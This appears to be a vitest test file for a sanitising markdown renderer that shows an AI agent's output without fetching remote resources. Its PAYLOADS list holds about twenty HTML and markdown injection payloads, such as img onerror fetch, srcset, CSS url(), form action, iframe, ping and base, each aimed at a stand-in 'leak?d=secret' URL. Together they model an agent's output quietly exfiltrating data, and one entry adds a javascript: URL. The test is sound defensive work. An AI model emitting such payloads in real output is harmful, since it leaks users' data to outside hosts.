// @vitest-environment jsdom
/** What an agent writes is drawn without fetching anything: pictures and clips from elsewhere become links in words. */
import { describe, expect, it } from "vitest";
import { mediaWords, renderMarkdown } from "./markdown";
import { resourceLink } from "./sessionLog";

const LEAK = "http://127.0.0.1:9/leak?d=secret";
const PNG = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4z8DwHwAFAAH/iZk9HQAAAABJRU5ErkJggg==";
const ALLOWED_URL_ATTRIBUTES = new Set(["href", "title"]);

/** The rendered HTML as a document, to read what a page would build from it. */
function rendered(markdown: string): Document {
  return new DOMParser().parseFromString(`<body>${renderMarkdown(markdown)}</body>`, "text/html");
}

/** Every place in the HTML where a browser could fetch something by itself, as "tag attribute=value". */
function fetchers(doc: Document): string[] {
  const found: string[] = [];
  for (const element of doc.body.querySelectorAll("*")) {
    const tag = element.tagName.toLowerCase();
    if (["video", "audio", "source", "picture", "input", "object", "embed", "iframe", "link", "style", "form", "svg", "image", "track", "meta", "base"].includes(tag)) {
      found.push(tag);
    }
    for (const { name, value } of element.attributes) {
      if (name === "style" || name === "srcset" || name === "poster" || name.startsWith("on") || name === "ping" || name === "background") found.push(`${tag} ${name}=${value}`);
      if (name === "src" && !(tag === "img" && value.startsWith("data:image/png;"))) found.push(`${tag} src=${value}`);
      if (value.includes("127.0.0.1:9") && !(tag === "a" && ALLOWED_URL_ATTRIBUTES.has(name))) found.push(`${tag} ${name}=${value}`);
    }
  }
  return found;
}

const PAYLOADS: [string, string][] = [
  ["a markdown image", `![the chart](${LEAK})`],
  ["a raw image", `<img src="${LEAK}" alt="chart" onerror="fetch('${LEAK}')">`],
  ["an image set", `<img srcset="${LEAK} 2x" alt="x">`],
  ["a picture", `<picture><source srcset="${LEAK}"><img src="${LEAK}&b" alt="p"></picture>`],
  ["a style attribute", `<p style="background:url(${LEAK})">hi</p>`],
  ["a style element", `<style>@import url(${LEAK}); p { background: url(${LEAK}) }</style>text`],
  ["a video poster", `<video poster="${LEAK}" src="${LEAK}&v" controls>clip</video>`],
  ["a video's source", `<video><source src="${LEAK}&s"></video>`],
  ["an audio clip", `<audio src="${LEAK}&a" autoplay></audio>`],
  ["an image input", `<input type="image" src="${LEAK}&i" alt="go">`],
  ["a form", `<form action="${LEAK}"><input name="q"><button formaction="${LEAK}">send</button></form>`],
  ["an object, an embed and a frame", `<object data="${LEAK}"></object><embed src="${LEAK}"><iframe src="${LEAK}"></iframe>`],
  ["a style sheet link", `<link rel="stylesheet" href="${LEAK}"><link rel="prefetch" href="${LEAK}">`],
  ["SVG", `<svg><image href="${LEAK}"/><use href="${LEAK}#x"/></svg>`],
  ["a ping", `<a href="https://example.org/" ping="${LEAK}">x</a>`],
  ["a table background", `<table background="${LEAK}"><tr><td background="${LEAK}">x</td></tr></table>`],
  ["a base", `<base href="${LEAK}"><a href="x">x</a>`],
  ["an SVG data image", `![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=)`],
  ["a resource link's name", resourceLink(`![x](${LEAK})`, "file:///w/a.py")],
];

describe("agent markdown", () => {
  for (const [what, markdown] of PAYLOADS) {
    it(`${what} leaves nothing that fetches`, () => {
      expect(fetchers(rendered(markdown))).toEqual([]);
    });
  }

  it("shows a picture from elsewhere as a link a person may open, in words", () => {
    const link = rendered(`![the chart](${LEAK})`).querySelector("a")!;
    expect(link.getAttribute("href")).toBe(LEAK);
    expect(link.textContent).toBe("Image “the chart” from 127.0.0.1:9 (not loaded)");
    expect(link.getAttribute("target")).toBe("_blank");
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("names a clip or a picture without a description by what it is", () => {
    expect(rendered(`<video src="${LEAK}"></video>`).body.textContent?.trim()).toBe("Video from 127.0.0.1:9 (not loaded)");
    expect(rendered(`<audio src="/a.ogg"></audio>`).body.textContent?.trim()).toBe("Audio (not loaded)");
    expect(mediaWords("Image", "  ", "not a url at all")).toBe("Image (not loaded)");
  });

  it("gives an address that would run no link, only the words", () => {
    const doc = rendered(`<img src="javascript:alert(1)" alt="x">`);
    expect(doc.querySelector("a")).toBeNull();
    expect(doc.body.textContent?.trim()).toBe("Image “x” (not loaded)");
  });

  it("keeps a raster picture held in the text itself, which loads nothing", () => {
    const image = rendered(`![dot](${PNG})`).querySelector("img")!;
    expect(image.getAttribute("src")).toBe(PNG);
    expect(image.getAttribute("alt")).toBe("dot");
  });

  it("reads a resource link's name as words", () => {
    const doc = rendered(resourceLink(`![x](${LEAK}) *bold*`, "https://example.org/a (b).py"));
    expect(doc.body.textContent?.trim()).toBe(`![x](${LEAK}) *bold*`);
    expect(doc.querySelector("a")!.getAttribute("href")).toBe("https://example.org/a%20%28b%29.py");
  });

  it("draws a task list's boxes as marks, not form controls", () => {
    const doc = rendered("- [x] done\n- [ ] to do");
    expect(doc.querySelector("input")).toBeNull();
    expect([...doc.querySelectorAll("li")].map((li) => li.textContent?.trim())).toEqual(["☑ done", "☐ to do"]);
  });

  it("keeps the code blocks' classes and copy button, and drops an agent's own classes and ids", () => {
    const doc = rendered('```py\nx = 1\n```\n\n<span class="hljs-keyword title_ board-overlay" id="root">k</span>');
    expect(doc.querySelector("[data-copy-code]")?.textContent).toBe("Copy code");
    expect(doc.querySelector("code")?.className).toBe("hljs");
    const span = [...doc.querySelectorAll("span")].at(-1)!;
    expect(span.className).toBe("hljs-keyword title_");
    expect(span.hasAttribute("id")).toBe(false);
  });

  it("still draws what markdown is for", () => {
    const doc = rendered("# Title\n\n**bold** _em_ `code` [link](https://example.org/)\n\n| a | b |\n|---|---|\n| 1 | 2 |");
    expect(doc.querySelector("h1")?.textContent).toBe("Title");
    expect(doc.querySelector("strong")?.textContent).toBe("bold");
    expect(doc.querySelector("a")?.getAttribute("href")).toBe("https://example.org/");
    expect(doc.querySelectorAll("td")).toHaveLength(2);
  });
});
